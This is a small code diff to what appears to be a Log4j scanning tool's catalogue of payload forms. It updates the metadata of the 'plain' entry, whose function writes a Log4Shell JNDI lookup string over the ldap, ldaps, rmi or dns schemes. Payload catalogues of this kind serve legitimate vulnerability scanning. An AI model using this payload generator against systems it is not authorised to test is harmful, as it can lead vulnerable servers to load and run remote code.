@@ -6,7 +6,7 @@ export const plain: LookupForm = {
   summary: 'the lookup as it is documented',
   schemes: ['ldap', 'ldaps', 'rmi', 'dns'],
   firesOn: ['A', 'B', 'C'],
-  seenIn: ['CISA log4j-scan', 'fullhunt log4j-scan', 'most campaigns'],
+  seenIn: ['CISA log4j-scan base, waf3, waf9', 'fullhunt log4j-scan base, waf3, waf9', 'most campaigns'],
   profile: 'quick',
   needsZone: false,
   write: (target) => `\${jndi:${urlOf(target)}}`,
